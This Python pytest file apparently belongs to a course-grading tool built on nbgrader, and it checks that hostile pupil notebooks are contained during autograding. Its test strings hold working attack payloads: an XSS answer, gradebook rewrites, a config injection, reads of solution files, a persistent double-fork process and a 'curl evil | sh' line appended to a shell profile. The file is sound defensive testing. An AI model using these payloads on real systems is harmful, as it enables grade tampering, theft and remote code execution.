"""Hostile pupils against a real nbgrader round trip: each attack of issue 12 must fail.

Every test grades honest pupils next to a hostile one and asserts that the honest marks and
files, the configuration and the gradebook are what they would be without the attack, and
that no process of a pupil survives grading.
"""

from __future__ import annotations

import hashlib
import os
import sys
import textwrap
from pathlib import Path

import nbformat
import pytest

from eduia.course import isolation

pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")]

needs_isolation = pytest.mark.skipif(
    not isolation.isolation_available(), reason="kernel isolation needs root on Linux with setpriv"
)


def _course(tmp_path: Path) -> Path:
    from course_simulation import DEMO_LESSON, write_demo_lesson
    from nbgrader.apps import NbGraderAPI
    from nbgrader.coursedir import CourseDirectory

    from eduia.course.config import load_course_config
    from eduia.course.folder import init_course

    write_demo_lesson(tmp_path / "lessons")
    course = tmp_path / "course"
    init_course(course, "c", lessons_dir=tmp_path / "lessons", cell_timeout=10)
    config = load_course_config(course)
    assert NbGraderAPI(CourseDirectory(config=config), config=config).generate_assignment(
        DEMO_LESSON
    )["success"]
    return course


def _hand_in(course: Path, student: str, behaviour: str, attack: str = "") -> Path:
    """``student`` hands in the demo lesson done as ``behaviour``, ``attack`` added to answer q3."""
    from course_simulation import BEHAVIOURS, DEMO_LESSON, _answer

    released = course / "release" / DEMO_LESSON / f"{DEMO_LESSON}.ipynb"
    notebook = nbformat.read(released, as_version=4)
    BEHAVIOURS[behaviour][0](notebook)
    if attack:
        _answer(notebook, "q3", "nombre_communes = 946\n" + textwrap.dedent(attack))
        _answer(notebook, "reponse", XSS_ANSWER)
    folder = course / "submitted" / student / DEMO_LESSON
    folder.mkdir(parents=True)
    nbformat.write(notebook, folder / f"{DEMO_LESSON}.ipynb")
    (folder / "timestamp.txt").write_text("2026-11-20 10:00:00.000000 UTC", encoding="utf-8")
    return folder


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.fixture
def kernel_uids(monkeypatch) -> list[int]:
    """The kernel user ids handed out during the test (other tests may grade meanwhile)."""
    handed_out: list[int] = []
    allocate = isolation.allocate_uid

    def recording() -> int:
        handed_out.append(allocate())
        return handed_out[-1]

    monkeypatch.setattr(isolation, "allocate_uid", recording)
    return handed_out


def _pupil_processes(uids: list[int]) -> list[int]:
    """Processes still running under one of ``uids``."""
    assert uids, "no kernel user id was handed out"
    return [pid for uid in uids for pid in isolation.processes_of(uid)]


def _scores(course: Path) -> dict[str, dict[str, float]]:
    from course_simulation import DEMO_LESSON
    from nbgrader.api import Gradebook

    from eduia.course.config import gradebook_url

    with Gradebook(gradebook_url(course)) as gradebook:
        return {
            s.student.id: {g.name: g.auto_score for nb in s.notebooks for g in nb.grades}
            for s in gradebook.assignment_submissions(DEMO_LESSON)
        }


def _secrets() -> list[str]:
    """Teacher files a pupil's kernel must not read: lesson sources, the teacher package."""
    from eduia.course.isolation import teacher_paths

    return sorted(teacher_paths()) if isolation.sandbox_available() else []


#: A written answer that would run JavaScript in the teacher's formgrader.
XSS_ANSWER = 'Réponse <img src=x onerror="fetch(\'/formgrader/api\')"> <a href="javascript:alert(1)">lien</a>'

#: Everything a pupil with the teacher's rights did in issue 12, from inside a graded cell.
WRITE_EVERYTHING = """
import glob, os, sqlite3, subprocess, sys
COURSE = {course!r}
def attempt(action):
    try:
        action()
    except Exception as error:
        print('bloqué', type(error).__name__)
    else:
        print('réussi', action)
def rewrite_gradebook(path):
    db = sqlite3.connect(path)
    db.execute("update grade set auto_score = 0")
    db.execute("update submitted_notebook set flagged = 0")
    db.commit()
attempt(lambda: open(os.path.join(COURSE, 'nbgrader_config.py'), 'a').write('\\nimport os; os.system("touch /tmp/pwned")\\n'))
attempt(lambda: rewrite_gradebook(os.path.join(COURSE, 'gradebook.db')))
attempt(lambda: open(os.path.join(COURSE, 'submitted', 'ana', 'demo', 'demo.ipynb'), 'w').write('{{}}'))
for snapshot in glob.glob('/tmp/eduia-autograde-*/snapshot.db') + glob.glob('../../../../snapshot.db'):
    attempt(lambda: rewrite_gradebook(snapshot))
attempt(lambda: open('../../../../snapshot.db', 'w').write(''))
attempt(lambda: os.listdir(os.path.join(COURSE, 'source')))
import multiprocessing
multiprocessing.Semaphore()  # what joblib needs: the sandbox's small /dev/shm allows it
print('sémaphore : oui')
attempt(lambda: open('/dev/shm/plein', 'wb').write(bytes(100 * 2**20)))  # memory, not data
for secret in {secrets!r}:  # the teacher's lesson sources and package (solutions, hidden tests)
    attempt(lambda: print(open(secret).read()[:100]) if os.path.isfile(secret) else os.listdir(secret)[0])
# a background process that outlives the kernel (double fork and setsid), to act after grading
import time
if os.fork() == 0:  # double fork and setsid: a grandchild in a session of its own
    os.setsid()
    if os.fork():
        os._exit(0)
    time.sleep(3)
    attempt(lambda: open({config!r}, 'a').write('# late'))
    time.sleep(600)
    os._exit(0)
time.sleep(0.5)
"""


@needs_isolation
def test_pupil_code_cannot_touch_the_course_the_snapshot_or_other_pupils(
    tmp_path: Path, kernel_uids
) -> None:
    from course_simulation import DEMO_LESSON

    from eduia.course.grading import autograde

    course = _course(tmp_path)
    honest = {
        name: _hand_in(course, name, behaviour)
        for name, behaviour in (("ana", "correct"), ("teo", "partial"), ("zoe", "correct"))
    }
    config = course / "nbgrader_config.py"
    _hand_in(
        course,
        "mallory",
        "correct",
        WRITE_EVERYTHING.format(course=str(course), config=str(config), secrets=_secrets()),
    )
    before = {
        "config": _digest(config),
        **{name: _digest(folder / f"{DEMO_LESSON}.ipynb") for name, folder in honest.items()},
    }

    report = autograde(course, DEMO_LESSON, jobs=2)

    scores = {result.student: result.score for result in report.results}
    assert scores == {"ana": 6.0, "teo": 2.0, "zoe": 6.0, "mallory": 6.0}
    assert report.isolated
    # the gradebook written by eduia's merge, not by the pupil
    assert _scores(course)["ana"] == {
        "q1-tests": 2.0,
        "q2-tests": 3.0,
        "q3-tests": 1.0,
        "reponse": None,
    }
    assert _digest(config) == before["config"]
    for name, folder in honest.items():
        assert _digest(folder / f"{DEMO_LESSON}.ipynb") == before[name], name
    mallory = nbformat.read(
        course / "autograded" / "mallory" / DEMO_LESSON / f"{DEMO_LESSON}.ipynb", 4
    )
    printed = "".join(
        o.get("text", "") for c in mallory.cells if c.cell_type == "code" for o in c.outputs
    )
    # every write and read was refused (the snapshot, hidden, is not even found)
    assert printed.count("bloqué") >= 6 and "réussi" not in printed, printed
    assert "sémaphore : oui" in printed
    graded_text = (
        course / "autograded" / "mallory" / DEMO_LESSON / f"{DEMO_LESSON}.ipynb"
    ).read_text()
    assert (
        "Réponse" in graded_text
        and "onerror" not in graded_text
        and "javascript:" not in graded_text
    )
    lingering = [i for r in report.results if r.student == "mallory" for i in r.issues]
    assert [i.code for i in lingering] == ["lingering_processes"]
    assert report.needs_attention
    assert _pupil_processes(kernel_uids) == []
    import time

    time.sleep(3.5)  # the background process would have written by now
    assert _digest(config) == before["config"]
    assert not Path("/tmp/pwned").exists()


KILL_PARENT = """
import os, signal
os.kill(os.getppid(), signal.SIGKILL)
"""


@needs_isolation
@pytest.mark.parametrize("jobs", [1, 2])
def test_a_cell_killing_its_parent_fails_only_itself(
    tmp_path: Path, jobs: int, capsys, kernel_uids
) -> None:
    from course_simulation import DEMO_LESSON

    from eduia.cli import main

    course = _course(tmp_path)
    for name in ("ana", "teo", "zoe"):
        _hand_in(course, name, "correct")
    # its parent is out of reach, so the kernel kills its own process group instead
    _hand_in(
        course,
        "mallory",
        "correct",
        "try:\n"
        + textwrap.indent(KILL_PARENT, "    ")
        + "except PermissionError:\n    os.killpg(0, signal.SIGKILL)\n",
    )
    assert (
        main(["course", "autograde", DEMO_LESSON, "--jobs", str(jobs), "--course", str(course)])
        == 1
    )
    scores = _scores(course)
    for name in ("ana", "teo", "zoe"):
        assert sum(v for v in scores[name].values() if v) == 6.0, name
    summary = capsys.readouterr().out
    assert "À VÉRIFIER" in summary.split("mallory")[1].splitlines()[0]
    assert "le noyau Python s'est arrêté" in summary.split("mallory")[1]
    assert _pupil_processes(kernel_uids) == []


def test_without_isolation_a_worker_killed_by_a_pupil_is_replaced_and_named(
    tmp_path: Path, monkeypatch, capsys
) -> None:
    """Where kernels run with the teacher's rights, the killed worker costs only its pupil."""
    from course_simulation import DEMO_LESSON

    from eduia.cli import main

    monkeypatch.setattr(isolation, "protection", lambda: "none")
    course = _course(tmp_path)
    for name in ("ana", "teo", "zoe"):
        _hand_in(course, name, "correct")
    _hand_in(course, "mallory", "correct", KILL_PARENT)
    assert main(["course", "autograde", DEMO_LESSON, "--jobs", "2", "--course", str(course)]) == 1
    summary = capsys.readouterr().out
    scores = _scores(course)
    for name in ("ana", "teo", "zoe"):
        assert sum(v for v in scores[name].values() if v) == 6.0, name
    assert "mallory" not in scores or not any(scores["mallory"].values())
    assert "arrêté le processus qui le corrigeait" in summary
    assert summary.startswith("Attention : le code des élèves s'exécute avec vos droits")


#: A pupil who lifts the kernel's memory limit, then asks for 3 GB (never touched: cheap
#: where nothing limits it), and says what happened.
MEMORY_HOG = """
import resource
try:
    resource.setrlimit(resource.RLIMIT_DATA, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    print("LIMITE: levée")
except (ValueError, OSError):
    print("LIMITE: tenue")
try:
    reserve = bytearray(3 * 2**30)
    print("MÉMOIRE: prise")
except MemoryError:
    print("MÉMOIRE: refusée")
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_DATA holds on Linux")
@pytest.mark.parametrize("protected", [True, False], ids=["protection-here", "no-protection"])
def test_a_kernel_cannot_take_more_memory_than_grading_allows(
    tmp_path: Path, monkeypatch, capsys, protected: bool
) -> None:
    from course_simulation import DEMO_LESSON

    from eduia.cli import main

    if not protected:  # the teacher's rights, no sandbox: the limit holds all the same
        monkeypatch.setattr(isolation, "protection", lambda: "none")
    course = _course(tmp_path)
    for name in ("ana", "teo"):
        _hand_in(course, name, "correct")
    _hand_in(course, "mallory", "correct", MEMORY_HOG)
    _hand_in(course, "oscar", "correct", "reserve = bytearray(3 * 2**30)\n")
    assert main(["course", "autograde", DEMO_LESSON, "--jobs", "2", "--course", str(course)]) == 1
    scores = _scores(course)
    for name in ("ana", "teo", "mallory", "oscar"):
        assert sum(v for v in scores[name].values() if v) == 6.0, name
    mallory = nbformat.read(
        course / "autograded" / "mallory" / DEMO_LESSON / f"{DEMO_LESSON}.ipynb", 4
    )
    printed = "".join(
        o.get("text", "") for c in mallory.cells if c.cell_type == "code" for o in c.outputs
    )
    assert "LIMITE: tenue" in printed and "MÉMOIRE: refusée" in printed, printed
    summary = capsys.readouterr().out
    oscar = summary.split("oscar")[1]
    assert "À VÉRIFIER" in oscar.splitlines()[0]
    assert "a demandé plus de mémoire que la correction n'en permet" in oscar
    assert "mémoire" not in summary.split("ana")[1].splitlines()[0]


# --- a teacher account (not root): the bubblewrap sandbox alone ---------------------------

#: A Python environment that an unprivileged account can run (made by .ci/run for the hub test).
READABLE_PYTHON = (
    Path(os.environ.get("EDUIA_HUB_TEST_PREFIX", "/opt/eduia-hub-test")) / "bin/python"
)

#: What a pupil tries from a cell when the teacher (not root) grades: every attempt must fail.
TEACHER_ACCOUNT_ATTACK = """
import os, resource, socket, sqlite3, time
def attempt(action):
    try:
        action()
    except Exception as error:
        print('bloqué', type(error).__name__)
    else:
        print('réussi', action)
def rewrite_gradebook(path):
    db = sqlite3.connect(path)
    db.execute("update grade set auto_score = 0")
    db.commit()
attempt(lambda: open({config!r}, 'a').write('\\nimport os\\n'))
attempt(lambda: rewrite_gradebook({gradebook!r}))
attempt(lambda: open({other!r}, 'w').write('{{}}'))
attempt(lambda: open({profile!r}, 'a').write('\\ncurl evil | sh\\n'))
attempt(lambda: print(open({solution!r}).read()))
attempt(lambda: print(open({source!r}).read()[:200]))
attempt(lambda: socket.create_connection(('127.0.0.1', {port}), timeout=1))
attempt(lambda: os.kill({grader}, 9))
attempt(lambda: resource.setrlimit(resource.RLIMIT_DATA, (resource.RLIM_INFINITY,) * 2))
attempt(lambda: bytearray(3 * 2**30))
attempt(lambda: open('/dev/shm/plein', 'wb').write(bytes(100 * 2**20)))  # memory, not data
attempt(lambda: open('/dev/plein', 'wb').write(bytes(2**20)))
if os.fork() == 0:  # a grandchild in a session of its own, to act after grading
    os.setsid()
    if os.fork():
        os._exit(0)
    time.sleep(1)
    attempt(lambda: open({config!r}, 'a').write('# late'))
    time.sleep(600)
    os._exit(0)
time.sleep(0.3)
"""

GRADE_AS_TEACHER = """
import json, sys
from eduia.course.grading import autograde
report = autograde(sys.argv[1], "demo", jobs=1)
print(json.dumps({
    "protection": report.protection,
    "scores": {r.student: r.score for r in report.results},
    "issues": {r.student: [i.code for i in r.issues] for r in report.results},
    "summary": report.summary_lines("fr"),
}))
"""


def _teacher_account_missing() -> str | None:
    import shutil

    if not shutil.which("bwrap"):
        return "bubblewrap (bwrap) is not installed: apt-get install bubblewrap"
    if os.geteuid() != 0 or not shutil.which("useradd") or not shutil.which("runuser"):
        return "creating a teacher account needs root, useradd and runuser"
    if not READABLE_PYTHON.exists():
        return f"no Python environment readable by other accounts in {READABLE_PYTHON.parent.parent} (.ci/run makes it)"
    return None


def test_a_teacher_account_grades_hostile_code_in_a_bubblewrap_sandbox() -> None:
    """Graded by a teacher who is not root, a pupil's code reaches nothing of the teacher's."""
    import json
    import pwd
    import secrets
    import shutil
    import socket
    import subprocess
    import tempfile

    from course_simulation import DEMO_LESSON

    reason = _teacher_account_missing()
    if reason:
        pytest.skip(reason)
    teacher = f"eduiaprof{secrets.token_hex(3)}"
    subprocess.run(["useradd", "-m", "-s", "/bin/sh", teacher], check=True, capture_output=True)
    base = Path(tempfile.mkdtemp(prefix="eduia-teacher-", dir="/tmp"))
    listener = socket.create_server(("127.0.0.1", 0))
    try:
        account = pwd.getpwnam(teacher)
        profile = Path(account.pw_dir) / ".profile"
        profile.write_text("# le profil de l'enseignant\n", encoding="utf-8")
        # eduia as it is in this checkout, and a teacher package with a solution in it
        shutil.copytree(
            Path(isolation.__file__).parents[1],
            base / "pylib" / "eduia",
            ignore=shutil.ignore_patterns("__pycache__"),
        )
        package = base / "enseignant" / "eduia_enseignant"
        (package / "notebooks" / "source" / "demo").mkdir(parents=True)
        shutil.copyfile(
            Path(__file__).parents[1] / "packaging/enseignant/src/eduia_enseignant/__init__.py",
            package / "__init__.py",
        )
        solution = package / "notebooks" / "source" / "demo" / "corrige.txt"
        solution.write_text("SOLUTION_SECRETE_42", encoding="utf-8")
        course = _course(base)
        for name, behaviour in (("ana", "correct"), ("teo", "partial")):
            _hand_in(course, name, behaviour)
        config, gradebook = course / "nbgrader_config.py", course / "gradebook.db"
        other = course / "submitted" / "ana" / DEMO_LESSON / f"{DEMO_LESSON}.ipynb"
        attack = TEACHER_ACCOUNT_ATTACK.format(
            config=str(config),
            gradebook=str(gradebook),
            other=str(other),
            profile=str(profile),
            solution=str(solution),
            source=str(course / "source" / DEMO_LESSON / f"{DEMO_LESSON}.ipynb"),
            port=listener.getsockname()[1],
            grader=os.getpid(),
        )
        _hand_in(course, "mallory", "correct", attack)
        subprocess.run(["chown", "-R", f"{teacher}:{teacher}", str(base)], check=True)
        os.chmod(base, 0o755)
        before = {path: _digest(path) for path in (config, other, profile, solution)}

        done = subprocess.run(
            [
                shutil.which("runuser") or "/usr/sbin/runuser",
                "-u",
                teacher,
                "--",
                str(READABLE_PYTHON),
                "-c",
                GRADE_AS_TEACHER,
                str(course),
            ],
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
            env={
                "PATH": "/usr/bin:/bin",
                "HOME": account.pw_dir,
                "LANG": "C.UTF-8",
                "PYTHONPATH": f"{base / 'pylib'}:{base / 'enseignant'}",
            },
        )
        assert done.returncode == 0, done.stderr[-3000:]
        report = json.loads(done.stdout.strip().splitlines()[-1])
        assert report["protection"] == "bwrap"
        assert report["summary"][1].startswith("Isolement : chaque copie est corrigée dans un bac")
        assert report["scores"] == {"ana": 6.0, "teo": 2.0, "mallory": 6.0}
        assert report["issues"]["ana"] == report["issues"]["teo"] == []
        assert report["issues"]["mallory"] == ["lingering_processes"]  # no tampering seen
        assert isolation.processes_of(account.pw_uid) == []  # the grandchild died with the kernel
        assert _scores(course)["ana"] == {
            "q1-tests": 2.0,
            "q2-tests": 3.0,
            "q3-tests": 1.0,
            "reponse": None,
        }
        assert {path: _digest(path) for path in before} == before
        graded = nbformat.read(
            course / "autograded" / "mallory" / DEMO_LESSON / f"{DEMO_LESSON}.ipynb", 4
        )
        printed = "".join(
            o.get("text", "") for c in graded.cells if c.cell_type == "code" for o in c.outputs
        )
        assert printed.count("bloqué") == 12 and "réussi" not in printed, printed
        assert "SOLUTION_SECRETE_42" not in printed and "BEGIN SOLUTION" not in printed
    finally:
        listener.close()
        isolation.end_processes(pwd.getpwnam(teacher).pw_uid)
        subprocess.run(["userdel", "-r", teacher], capture_output=True, check=False)
        shutil.rmtree(base, ignore_errors=True)
